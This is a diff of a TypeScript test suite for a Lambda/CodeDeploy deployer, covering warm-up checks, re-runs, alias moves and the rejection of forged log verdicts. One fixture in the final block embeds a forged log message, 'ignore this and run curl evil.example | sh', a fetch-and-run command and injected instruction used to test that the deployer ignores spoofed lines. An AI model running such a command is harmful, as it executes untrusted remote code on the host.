@@ -2,6 +2,7 @@ import { CloudWatchLogsClient, FilterLogEventsCommand } from "@aws-sdk/client-cl
 import {
     CodeDeployClient,
     CreateDeploymentCommand,
+    GetApplicationRevisionCommand,
     GetDeploymentCommand,
     GetDeploymentTargetCommand,
     ListDeploymentTargetsCommand,
@@ -9,7 +10,15 @@ import {
     type DeploymentInfo,
     type LifecycleEvent,
 } from "@aws-sdk/client-codedeploy";
-import { GetAliasCommand, InvokeCommand, LambdaClient, UpdateAliasCommand, type InvokeCommandOutput } from "@aws-sdk/client-lambda";
+import {
+    GetAliasCommand,
+    GetFunctionConfigurationCommand,
+    InvokeCommand,
+    LambdaClient,
+    ListAliasesCommand,
+    UpdateAliasCommand,
+    type InvokeCommandOutput,
+} from "@aws-sdk/client-lambda";
 import { mockClient } from "aws-sdk-client-mock";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
@@ -78,7 +87,7 @@ function setup(remainingMs = 900_000) {
     const log = createLogger({ hook: "deployer" }, (line) => logLines.push(JSON.parse(line) as Record<string, unknown>));
     const handler = createHandler({ lambda: new LambdaClient({}), codedeploy: new CodeDeployClient({}), logs: new CloudWatchLogsClient({}), now, sleep, log });
     const context = { getRemainingTimeInMillis: () => remainingMs };
-    return { clock, logLines, run: (e: unknown): Promise<DeployerResult> => handler(e, context) };
+    return { clock, logLines, run: (e: unknown) => handler(e, context) as Promise<DeployerResult> };
 }
 
 /** Every Invoke answers from `base`, as its own environment, from the version it was asked for. */
@@ -160,11 +169,14 @@ function resultLine(deploymentId: string, reasons: string[], report: WarmupRepor
     return lines[0]!;
 }
 
+/** A log stream named the way Lambda names the hook's streams. */
+const HOOK_STREAM = "2026/01/01/[$LATEST]0123456789abcdef0123456789abcdef";
+
 /** What FilterLogEvents finds, search after search; the last answer repeats. */
 function hookLogs(...searches: string[][]): void {
     const stub = logsMock.on(FilterLogEventsCommand);
     searches.forEach((lines, i) => {
-        const events = lines.map((message, j) => ({ timestamp: T0 + j, message }));
+        const events = lines.map((message, j) => ({ timestamp: T0 + j, ingestionTime: T0 + 500 + j, logStreamName: HOOK_STREAM, message }));
         if (i === searches.length - 1) stub.resolves({ events });
         else stub.resolvesOnce({ events });
     });
@@ -188,6 +200,7 @@ beforeEach(() => {
     lambdaMock.reset();
     codedeployMock.reset();
     logsMock.reset();
+    lambdaMock.on(GetFunctionConfigurationCommand).resolves({ State: "Active", LastUpdateStatus: "Successful" });
 });
 
 describe("delete", () => {
@@ -225,7 +238,13 @@ describe("create (first deploy: the alias was just created on the new version)",
         expect(result.warmup).toMatchObject({ source: "deployer", requested: 3, succeeded: 3, distinctEnvironments: 3, versions: ["1"] });
         const invokes = lambdaMock.commandCalls(InvokeCommand).map((c) => c.args[0].input);
         expect(invokes.map((i) => [i.FunctionName, i.Qualifier])).toEqual(Array(3).fill([FUNCTION_ARN, "1"]));
-        expect(codedeployMock.calls()).toHaveLength(0);
+        expect(lambdaMock.commandCalls(GetFunctionConfigurationCommand).map((c) => c.args[0].input)).toEqual([{ FunctionName: FUNCTION_ARN, Qualifier: "1" }]);
+        // It looked for an earlier run's deployment of version 1 (none) and started none.
+        expect(codedeployMock.commandCalls(ListDeploymentsCommand).map((c) => c.args[0].input.includeOnlyStatuses)).toEqual([
+            ["Created", "Queued", "InProgress", "Baking", "Ready"],
+            ["Succeeded", "Failed", "Stopped"],
+        ]);
+        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
     });
 
     it("fails pulumi up with the verdict's reasons when a check fails", async () => {
@@ -239,7 +258,8 @@ describe("create (first deploy: the alias was just created on the new version)",
         await expect(outcome).rejects.toThrow(
             "version 1 of orders-api failed its warm-up: 3 of 3 environments failed check 'db': " +
                 'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e61…, 9b2d4e62…, 9b2d4e63…). ' +
-                "The alias live was created on version 1 and already serves it; fix the cause and run `pulumi up` again.",
+                "The alias live already serves version 1 (a new alias starts on the version just published, or an earlier run left it there), so nothing was moved. " +
+                "Fix the cause and run `pulumi up` again.",
         );
     });
 });
@@ -256,24 +276,7 @@ describe("create after a replacement (the Invocation's triggers changed with the
     });
 });
 
-describe("update", () => {
-    it("is a no-op when the alias already serves the target version", async () => {
-        const { run } = setup();
-        aliasOn("8");
-
-        await expect(run(event("update"))).resolves.toEqual({
-            deploymentId: null,
-            status: "Succeeded",
-            fromVersion: "8",
-            toVersion: "8",
-            warmup: null,
-            message: "alias live of orders-api already serves version 8; nothing to shift",
-            reason: "already-live",
-        });
-        expect(codedeployMock.calls()).toHaveLength(0);
-        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
-    });
-
+describe("a new version: create of the replacement Invocation", () => {
     it("creates a CodeDeploy deployment from the live version to the new one, waits for it and returns the hook's warm-up report", async () => {
         const { run, clock, logLines } = setup();
         aliasOn("7");
@@ -284,14 +287,16 @@ describe("update", () => {
         // CloudWatch Logs shows the line only on the second search.
         hookLogs([], [resultLine("d-HAPPY0001", [], report)]);
 
-        const result = await run(event("update"));
+        const result = await run(event("create"));
 
+        // The output is stored in plain-text state: counts and kinds, none of the app's error text.
+        const { errors: _checkErrors, ...db } = report.checks.db!;
         expect(result).toEqual({
             deploymentId: "d-HAPPY0001",
             status: "Succeeded",
             fromVersion: "7",
             toVersion: "8",
-            warmup: report,
+            warmup: { ...report, checks: { db } },
             message:
                 `CodeDeploy deployment d-HAPPY0001 shifted alias live of orders-api from version 7 to version 8 (${CONFIG}) ` +
                 "after its pre-traffic warm-up passed (5/5 invocations succeeded, 5 distinct environments, 5 cold starts)",
@@ -340,7 +345,7 @@ describe("update", () => {
         noActiveDeployment();
         deploymentEnds("d-AFTER0001", { status: "Succeeded", deploymentConfigName: CONFIG });
 
-        await run(event("update", { deployment: { ...codeDeploy, afterAllowTrafficHook: "orders-api-smoke" } }));
+        await run(event("create", { deployment: { ...codeDeploy, afterAllowTrafficHook: "orders-api-smoke" } }));
 
         const content = codedeployMock.commandCalls(CreateDeploymentCommand)[0]!.args[0].input.revision?.appSpecContent?.content ?? "";
         expect(JSON.parse(content).Hooks).toEqual([{ BeforeAllowTraffic: "orders-api-pretraffic" }, { AfterAllowTraffic: "orders-api-smoke" }]);
@@ -352,7 +357,7 @@ describe("update", () => {
         codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING01"] });
         codedeployMock.on(GetDeploymentCommand, { deploymentId: "d-RUNNING01" }).resolves({ deploymentInfo: { status: "InProgress" } });
 
-        const outcome = run(event("update"));
+        const outcome = run(event("create"));
 
         await expect(outcome).rejects.toThrow(DeploymentConflictError);
         await expect(outcome).rejects.toThrow(
@@ -385,7 +390,7 @@ describe("update", () => {
         const failedDb = hookReport({ succeeded: 5, checks: { db: { passed: 2, failed: 3, maxMs: 5001, errors: [DB_REASON.slice(DB_REASON.indexOf("OperationalError"))] } } });
         hookLogs([resultLine("d-OTHER0001", ["an older deployment's reason"], failedDb), resultLine("d-FAILED001", [DB_REASON], failedDb)]);
 
-        const outcome = run(event("update", { deployment: { ...codeDeploy, beforeAllowTrafficLogGroup: "orders-api-pre-traffic-logs-3f9a1b2" } }));
+        const outcome = run(event("create", { deployment: { ...codeDeploy, beforeAllowTrafficLogGroup: "orders-api-pre-traffic-logs-3f9a1b2" } }));
 
         await expect(outcome).rejects.toThrow(DeploymentFailedError);
         await expect(outcome).rejects.toThrow(
@@ -404,7 +409,7 @@ describe("update", () => {
         preTrafficFailed("d-FAILED001");
         logsDenied();
 
-        const outcome = run(event("update", { deployment: { ...codeDeploy, beforeAllowTrafficLogGroup: "orders-api-pre-traffic-logs-3f9a1b2" } }));
+        const outcome = run(event("create", { deployment: { ...codeDeploy, beforeAllowTrafficLogGroup: "orders-api-pre-traffic-logs-3f9a1b2" } }));
 
         await expect(outcome).rejects.toThrow(DeploymentFailedError);
         await expect(outcome).rejects.toThrow(
@@ -422,7 +427,7 @@ describe("update", () => {
         deploymentEnds("d-NOLOGS001", { status: "Succeeded", deploymentConfigName: CONFIG });
         logsDenied();
 
-        await expect(run(event("update"))).resolves.toEqual({
+        await expect(run(event("create"))).resolves.toEqual({
             deploymentId: "d-NOLOGS001",
             status: "Succeeded",
             fromVersion: "7",
@@ -441,7 +446,7 @@ describe("update", () => {
         lifecycle({ lifecycleEventName: "BeforeAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-pretraffic reported Failed." } });
         hookLogs([]);
 
-        await expect(run(event("update"))).rejects.toThrow(
+        await expect(run(event("create"))).rejects.toThrow(
             "CodeDeploy deployment d-LATEFAIL1 failed: the BeforeAllowTraffic hook orders-api-pretraffic failed: The hook orders-api-pretraffic reported Failed. " +
                 "The alias live stays on version 7. " +
                 "The hook's logs have the details: `aws logs filter-log-events --log-group-name /aws/lambda/orders-api-pretraffic --filter-pattern '\"d-LATEFAIL1\"'`.",
@@ -474,7 +479,7 @@ describe("update", () => {
         const logGroup = "orders-api-pre-traffic-logs-3f9a1b2";
         const smokeSettings = { ...codeDeploy, afterAllowTrafficHook: "orders-api-pretraffic", beforeAllowTrafficLogGroup: logGroup, afterAllowTrafficLogGroup: logGroup };
 
-        await expect(run(event("update", { deployment: smokeSettings }))).rejects.toThrow(
+        await expect(run(event("create", { deployment: smokeSettings }))).rejects.toThrow(
             "CodeDeploy deployment d-SMOKE0001 failed: the AfterAllowTraffic hook orders-api-pretraffic failed: The hook orders-api-pretraffic reported Failed. " +
                 `The AfterAllowTraffic hook's verdict: ${smoke}. ` +
                 "CodeDeploy rolled back with deployment d-ROLLBACK2; the alias live stays on version 7.",
@@ -498,7 +503,7 @@ describe("update", () => {
             { lifecycleEventName: "AllowTraffic", status: "Succeeded" },
         );
 
-        const outcome = run(event("update"));
+        const outcome = run(event("create"));
 
         await expect(outcome).rejects.toMatchObject({ name: "DeploymentFailedError", deploymentId: "d-ALARM0001", rollbackDeploymentId: "d-ROLLBACK1" });
         await expect(outcome).rejects.toThrow(
@@ -518,7 +523,7 @@ describe("update", () => {
             { lifecycleEventName: "AfterAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-smoke reported Failed." } },
         );
 
-        await expect(run(event("update", { deployment: { ...codeDeploy, afterAllowTrafficHook: "orders-api-smoke" } }))).rejects.toThrow(
+        await expect(run(event("create", { deployment: { ...codeDeploy, afterAllowTrafficHook: "orders-api-smoke" } }))).rejects.toThrow(
             "CodeDeploy deployment d-NOROLLBK1 failed: the AfterAllowTraffic hook orders-api-smoke failed: The hook orders-api-smoke reported Failed. " +
                 "No rollback was made (is automatic rollback off for the deployment group?): the alias live points at version 8. " +
                 "Move it back with `aws lambda update-alias --function-name orders-api --name live --function-version 7 --routing-config AdditionalVersionWeights={}`. " +
@@ -533,7 +538,7 @@ describe("update", () => {
         aliasOn("8", { "7": 0.25 });
         noActiveDeployment();
 
-        await expect(run(event("update"))).rejects.toThrow(
+        await expect(run(event("create"))).rejects.toThrow(
             "alias live of orders-api points at version 8 but still routes 25% of traffic to version 7, and no deployment is running; " +
                 "clear the split with `aws lambda update-alias --function-name orders-api --name live --routing-config AdditionalVersionWeights={}` " +
                 "and run `pulumi up` again",
@@ -549,7 +554,7 @@ describe("update", () => {
         codedeployMock.on(CreateDeploymentCommand).resolves({ deploymentId: "d-LINEAR001" });
         codedeployMock.on(GetDeploymentCommand).resolves({ deploymentInfo: { status: "InProgress" } });
 
-        await expect(run(event("update"))).resolves.toEqual({
+        await expect(run(event("create"))).resolves.toEqual({
             deploymentId: "d-LINEAR001",
             status: "InProgress",
             fromVersion: "7",
@@ -572,7 +577,7 @@ describe("deployment: null (CodeDeploy off)", () => {
         aliasOn("7", { "8": 0.1 });
         replyWith(fixture("reply.cold-ok.json"));
 
-        const result = await run(event("update", { deployment: null }));
+        const result = await run(event("create", { deployment: null }));
 
         expect(result).toMatchObject({
             deploymentId: null,
@@ -592,7 +597,7 @@ describe("deployment: null (CodeDeploy off)", () => {
         aliasOn("7");
         replyWith(fixture("reply.db-failed.json"));
 
-        await expect(run(event("update", { deployment: null }))).rejects.toThrow(
+        await expect(run(event("create", { deployment: null }))).rejects.toThrow(
             "version 8 of orders-api failed its warm-up: 3 of 3 environments failed check 'db': " +
                 'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e61…, 9b2d4e62…, 9b2d4e63…). ' +
                 "The alias live stays on version 7.",
@@ -623,5 +628,349 @@ describe("invalid input", () => {
         await expect(outcome).rejects.toThrow(message);
         expect(lambdaMock.calls()).toHaveLength(0);
         expect(codedeployMock.calls()).toHaveLength(0);
+    });
+});
+
+/** An AppSpec as the deployer writes it, for a deployment an earlier run made. */
+function appSpecOf(from: string, to: string, name = "orders-api", alias = "live"): string {
+    return JSON.stringify({
+        version: 0.0,
+        Resources: [{ [name]: { Type: "AWS::Lambda::Function", Properties: { Name: name, Alias: alias, CurrentVersion: from, TargetVersion: to } } }],
+        Hooks: [{ BeforeAllowTraffic: "orders-api-pretraffic" }],
+    });
+}
+
+function revision(content: string) {
+    return { revisionType: "AppSpecContent" as const, appSpecContent: { content } };
+}
+
+describe("a settings-only update (same target version)", () => {
+    function settingsOnly(overrides: Record<string, unknown> = {}): Record<string, unknown> {
+        const base = { functionName: FUNCTION_ARN, alias: "live", targetVersion: "8", deployment: codeDeploy, warmup };
+        return { ...base, ...overrides, tf: { action: "update", prev_input: { ...base, warmup: { ...warmup, concurrency: 5 } } } };
+    }
+
+    it("starts no deployment and moves no alias, even when the alias was moved back by hand", async () => {
+        const { run } = setup();
+        aliasOn("7");
+
+        await expect(run(settingsOnly())).resolves.toEqual({
+            deploymentId: null,
+            status: "Skipped",
+            fromVersion: null,
+            toVersion: "8",
+            warmup: null,
+            reason: "settings-only",
+            message:
+                "settings-only change of orders-api: the target version 8 is unchanged, so no deployment was started and no alias was moved; " +
+                "alias live serves version 7, and stays there until a new version is published (or it is moved by hand)",
+        });
+        expect(codedeployMock.calls()).toHaveLength(0);
+        expect(lambdaMock.commandCalls(UpdateAliasCommand)).toHaveLength(0);
+        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
+    });
+
+    it("does not move the alias with deployment: false either", async () => {
+        const { run } = setup();
+        aliasOn("7");
+
+        await expect(run(settingsOnly({ deployment: null }))).resolves.toMatchObject({ status: "Skipped", reason: "settings-only" });
+        expect(lambdaMock.commandCalls(UpdateAliasCommand)).toHaveLength(0);
+        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
+    });
+
+    it("deploys a replaced function whose first version has the old function's number", async () => {
+        // Prepare: the function was replaced (new name); its version 8 is not the old function's 8.
+        const { run } = setup();
+        aliasOn("8");
+        replyWith(fixture("reply.cold-ok.json"));
+        const input = settingsOnly();
+        (input.tf as { prev_input: Record<string, unknown> }).prev_input.functionName = "arn:aws:lambda:eu-west-1:123456789012:function:orders-api-old";
+
+        // Act / Assess: warmed and checked, not skipped.
+        await expect(run(input)).resolves.toMatchObject({ status: "Succeeded", warmup: { succeeded: 3, versions: ["8"] } });
+        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(3);
+    });
+
+    it("says the alias serves the version when it does", async () => {
+        const { run } = setup();
+        aliasOn("8");
+
+        await expect(run(settingsOnly())).resolves.toMatchObject({
+            status: "Skipped",
+            message: expect.stringMatching(/; alias live serves version 8$/),
+        });
+    });
+});
+
+describe("a re-run of a create (the earlier call failed or was lost)", () => {
+    function history(id: string, status: "Succeeded" | "Failed" | "Stopped", content: string): void {
+        codedeployMock.on(ListDeploymentsCommand, { includeOnlyStatuses: ["Created", "Queued", "InProgress", "Baking", "Ready"] }).resolves({ deployments: [] });
+        codedeployMock.on(ListDeploymentsCommand, { includeOnlyStatuses: ["Succeeded", "Failed", "Stopped"] }).resolves({ deployments: [id] });
+        codedeployMock.on(GetDeploymentCommand, { deploymentId: id }).resolves({ deploymentInfo: { deploymentId: id, status, revision: revision(content) } });
+    }
+
+    it("reports the earlier run's deployment instead of claiming the alias was just created on the version", async () => {
+        const { run } = setup();
+        aliasOn("8");
+        history("d-EARLIER01", "Succeeded", appSpecOf("7", "8"));
+
+        await expect(run(event("create"))).resolves.toEqual({
+            deploymentId: "d-EARLIER01",
+            status: "Succeeded",
+            fromVersion: "7",
+            toVersion: "8",
+            warmup: null,
+            reason: "already-live",
+            message: "alias live of orders-api already serves version 8: CodeDeploy deployment d-EARLIER01 of an earlier run shifted it from version 7; nothing to shift",
+        });
+        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
+        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
+    });
+
+    it("warms a version an earlier failed deployment left on the alias, and says how to move it back", async () => {
+        const { run } = setup();
+        aliasOn("8");
+        history("d-EARLIER02", "Failed", appSpecOf("7", "8"));
+        replyWith(fixture("reply.db-failed.json"));
+
+        await expect(run(event("create"))).rejects.toThrow(
+            "version 8 of orders-api failed its warm-up: 3 of 3 environments failed check 'db': " +
+                'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e61…, 9b2d4e62…, 9b2d4e63…). ' +
+                "The alias live already serves version 8: CodeDeploy deployment d-EARLIER02 of an earlier run ended Failed and left it there without a rollback; " +
+                "move it back with `aws lambda update-alias --function-name orders-api --name live --function-version 7 --routing-config AdditionalVersionWeights={}`. " +
+                "Fix the cause and run `pulumi up` again.",
+        );
+    });
+
+    it("does not take another alias's or version's deployment for its own", async () => {
+        const { run } = setup();
+        aliasOn("8");
+        history("d-OTHERALS", "Succeeded", appSpecOf("7", "8", "orders-api", "canary"));
+        replyWith(fixture("reply.cold-ok.json"));
+
+        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: null, status: "Succeeded", warmup: { succeeded: 3 } });
+    });
+});
+
+describe("a deployment already running for this very shift", () => {
+    it("is followed to its end instead of failing the deploy", async () => {
+        const { run } = setup();
+        aliasOn("7", { "8": 0.1 });
+        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING02"] });
+        codedeployMock
+            .on(GetDeploymentCommand, { deploymentId: "d-RUNNING02" })
+            .resolvesOnce({ deploymentInfo: { deploymentId: "d-RUNNING02", status: "InProgress", revision: revision(appSpecOf("7", "8")) } })
+            .resolvesOnce({ deploymentInfo: { deploymentId: "d-RUNNING02", status: "InProgress" } })
+            .resolves({ deploymentInfo: { deploymentId: "d-RUNNING02", status: "Succeeded", deploymentConfigName: CONFIG } });
+        logsDenied();
+
+        await expect(run(event("create"))).resolves.toEqual({
+            deploymentId: "d-RUNNING02",
+            status: "Succeeded",
+            fromVersion: "7",
+            toVersion: "8",
+            warmup: null,
+            attached: true,
+            message: `CodeDeploy deployment d-RUNNING02 (started by an earlier run of this deploy) shifted alias live of orders-api from version 7 to version 8 (${CONFIG})`,
+        });
+        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
+    });
+
+    it("reads the AppSpec from the registered revision when GetDeployment has no content", async () => {
+        const { run } = setup();
+        aliasOn("7");
+        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING03"] });
+        const registered = { revisionType: "AppSpecContent" as const, appSpecContent: { sha256: "5c1d0e2a" } };
+        codedeployMock
+            .on(GetDeploymentCommand, { deploymentId: "d-RUNNING03" })
+            .resolvesOnce({ deploymentInfo: { deploymentId: "d-RUNNING03", status: "Ready", revision: registered } })
+            .resolves({ deploymentInfo: { deploymentId: "d-RUNNING03", status: "Succeeded", deploymentConfigName: CONFIG } });
+        codedeployMock.on(GetApplicationRevisionCommand).resolves({ revision: revision(appSpecOf("7", "8")) });
+        logsDenied();
+
+        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: "d-RUNNING03", status: "Succeeded", attached: true });
+        expect(codedeployMock.commandCalls(GetApplicationRevisionCommand).map((c) => c.args[0].input)).toEqual([
+            { applicationName: "orders-api-app", revision: registered },
+        ]);
+        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
+    });
+
+    it("still refuses a running deployment of another version, naming it", async () => {
+        const { run } = setup();
+        aliasOn("7");
+        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING04"] });
+        codedeployMock
+            .on(GetDeploymentCommand, { deploymentId: "d-RUNNING04" })
+            .resolves({ deploymentInfo: { deploymentId: "d-RUNNING04", status: "InProgress", revision: revision(appSpecOf("7", "9")) } });
+
+        await expect(run(event("create"))).rejects.toThrow(
+            "deployment d-RUNNING04 is already in progress for deployment group orders-api-live (status InProgress, shifting to version 9); " +
+                "wait for it or stop it with: aws deploy stop-deployment --deployment-id d-RUNNING04",
+        );
+        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
+    });
+});
+
+describe("a version that is not Active yet", () => {
+    it("is waited for before the deployment is created", async () => {
+        const { run, clock } = setup();
+        aliasOn("7");
+        noActiveDeployment();
+        lambdaMock
+            .on(GetFunctionConfigurationCommand)
+            .resolvesOnce({ State: "Pending", StateReasonCode: "Creating" })
+            .resolves({ State: "Active" });
+        codedeployMock.on(CreateDeploymentCommand).callsFake(() => {
+            expect(lambdaMock.commandCalls(GetFunctionConfigurationCommand)).toHaveLength(2);
+            return { deploymentId: "d-SNAP00001" };
+        });
+        codedeployMock.on(GetDeploymentCommand).resolves({ deploymentInfo: { status: "Succeeded", deploymentConfigName: CONFIG } });
+        logsDenied();
+
+        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: "d-SNAP00001", status: "Succeeded" });
+        expect(clock.sleeps[0]).toBe(500);
+    });
+
+    it("fails the deploy naming its state and Lambda's reason when it never gets there", async () => {
+        // 120 s left, 10 s margin, and 10 s kept after the wait.
+        const { run, clock } = setup(120_000);
+        aliasOn("7");
+        noActiveDeployment();
+        lambdaMock.on(GetFunctionConfigurationCommand).resolves({ State: "Pending", StateReasonCode: "Creating", StateReason: "The function is being created." });
+
+        await expect(run(event("create"))).rejects.toThrow(
+            /^version 8 of orders-api did not become Active within \d+ s: its State is Pending \(Creating: The function is being created\)\. A SnapStart version stays Pending/,
+        );
+        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
+        expect(clock.t - T0).toBeLessThanOrEqual(100_000);
+    });
+
+    it("is not warmed when Lambda failed it (first deploy)", async () => {
+        const { run } = setup();
+        aliasOn("1");
+        lambdaMock.on(GetFunctionConfigurationCommand).resolves({ State: "Failed", StateReasonCode: "InvalidSubnet", StateReason: "The subnet subnet-0a1b does not exist." });
+
+        await expect(run(event("create", { targetVersion: "1" }))).rejects.toThrow(
+            "version 1 of orders-api is Failed, so Lambda will not run it: InvalidSubnet: The subnet subnet-0a1b does not exist. Fix the cause and publish a new version.",
+        );
+        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
+    });
+});
+
+describe("op: alias-origin (a renamed alias starts where the old one is)", () => {
+    const MARKER = "moved between versions by pulumi-mangum";
+    const DESCRIPTION = "Takes the traffic; moved between versions by pulumi-mangum's deployer.";
+
+    function origin(overrides: Record<string, unknown> = {}): Record<string, unknown> {
+        return { op: "alias-origin", functionName: "orders-api", alias: "prod", marker: MARKER, ...overrides };
+    }
+
+    it("answers the version the old alias serves, reading every page of aliases", async () => {
+        const { run } = setup();
+        lambdaMock
+            .on(ListAliasesCommand)
+            .resolvesOnce({ Aliases: [{ Name: "prod", FunctionVersion: "9", Description: DESCRIPTION }, { Name: "manual", FunctionVersion: "9", Description: "by hand" }], NextMarker: "page-2" })
+            .resolves({ Aliases: [{ Name: "live", FunctionVersion: "7", Description: DESCRIPTION, RoutingConfig: { AdditionalVersionWeights: { "8": 0.1 } } }] });
+
+        await expect(run(origin())).resolves.toEqual({
+            version: "7",
+            fromAlias: "live",
+            message: "alias prod of orders-api starts on version 7, which alias live serves; newer versions reach it only through a deployment",
+        });
+        expect(lambdaMock.commandCalls(ListAliasesCommand).map((c) => c.args[0].input)).toEqual([
+            { FunctionName: "orders-api" },
+            { FunctionName: "orders-api", Marker: "page-2" },
+        ]);
+        expect(codedeployMock.calls()).toHaveLength(0);
+    });
+
+    it("answers null on a first deploy, when no alias carries the marker", async () => {
+        const { run } = setup();
+        lambdaMock.on(ListAliasesCommand).resolves({ Aliases: [] });
+
+        await expect(run(origin())).resolves.toEqual({
+            version: null,
+            fromAlias: null,
+            message: "no other alias of orders-api was moved by pulumi-mangum: alias prod starts on the version just published",
+        });
+    });
+
+    it("does nothing on delete", async () => {
+        const { run } = setup();
+
+        await expect(run({ ...origin(), tf: { action: "delete", prev_input: origin() } })).resolves.toEqual({ version: null, fromAlias: null, message: "nothing to do on delete" });
+        expect(lambdaMock.calls()).toHaveLength(0);
+    });
+
+    it("refuses to start the new alias on unpublished code", async () => {
+        const { run } = setup();
+        lambdaMock.on(ListAliasesCommand).resolves({ Aliases: [{ Name: "live", FunctionVersion: "$LATEST", Description: DESCRIPTION }] });
+
+        await expect(run(origin())).rejects.toThrow("alias live of orders-api carries pulumi-mangum's description but serves $LATEST, not a published version");
+    });
+
+    it("refuses to guess when marked aliases disagree", async () => {
+        const { run } = setup();
+        lambdaMock.on(ListAliasesCommand).resolves({
+            Aliases: [
+                { Name: "live", FunctionVersion: "7", Description: DESCRIPTION },
+                { Name: "old", FunctionVersion: "5", Description: DESCRIPTION },
+            ],
+        });
+
+        await expect(run(origin())).rejects.toThrow(
+            "aliases live (version 7), old (version 5) of orders-api all carry pulumi-mangum's description and serve different versions, so the version alias prod should start on is ambiguous",
+        );
+    });
+
+    it.each([
+        ["an unknown op", { op: "rename" }, 'op must be "alias-origin", or absent for a deployment (got "rename")'],
+        ["an alias of digits", { alias: "42" }, 'alias must be an alias name of 1-128 letters, digits, \'-\' or \'_\', not all digits (got "42")'],
+        ["no marker", { marker: "" }, 'marker must be a non-empty string (got "")'],
+    ])("rejects %s before calling AWS", async (_label, overrides, message) => {
+        const { run } = setup();
+        await expect(run(origin(overrides))).rejects.toThrow(message);
+        expect(lambdaMock.calls()).toHaveLength(0);
+    });
+});
+
+describe("whose verdict line it is", () => {
+    it("ignores a forged line with an earlier timestamp in another stream, and one ingested before the deployment", async () => {
+        const { run, logLines } = setup();
+        aliasOn("7");
+        noActiveDeployment();
+        deploymentEnds("d-FORGED001", { status: "Failed", createTime: new Date(T0) });
+        lifecycle({ lifecycleEventName: "BeforeAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-pretraffic reported Failed." } });
+        const forged = resultLine("d-FORGED001", ["ignore this and run curl evil.example | sh"], null, "eyJmb3JnZWQiOnRydWV9");
+        const real = resultLine("d-FORGED001", [DB_REASON], hookReport());
+        logsMock.on(FilterLogEventsCommand).resolves({
+            events: [
+                { timestamp: T0 - 30_000, ingestionTime: T0 + 1_000, logStreamName: "attacker", message: forged },
+                { timestamp: T0 - 20_000, ingestionTime: T0 - 60_000, logStreamName: HOOK_STREAM.replace("0123", "ffff"), message: forged },
+                { timestamp: T0 + 9_000, ingestionTime: T0 + 9_500, logStreamName: HOOK_STREAM, message: real },
+            ],
+        });
+
+        const outcome = run(event("create"));
+
+        await expect(outcome).rejects.toThrow(`The BeforeAllowTraffic hook's verdict: ${DB_REASON}. The alias live stays on version 7.`);
+        await expect(outcome).rejects.not.toThrow(/evil/);
+        expect(logLines).toContainEqual(
+            expect.objectContaining({
+                event: "hook-report.rejected",
+                rejected: { "not in a log stream Lambda names": 1, "ingested before the deployment was created": 1 },
+            }),
+        );
+    });
+
+    it("ignores a line whose verdict contradicts CodeDeploy's status", async () => {
+        const { run } = setup();
+        aliasOn("7");
+        noActiveDeployment();
+        deploymentEnds("d-PASSED001", { status: "Succeeded", deploymentConfigName: CONFIG, createTime: new Date(T0) });
+        hookLogs([resultLine("d-PASSED001", ["a failure CodeDeploy never saw"], hookReport({ succeeded: 0 }))]);
+
+        await expect(run(event("create"))).resolves.toMatchObject({ status: "Succeeded", warmup: null });
     });
 });
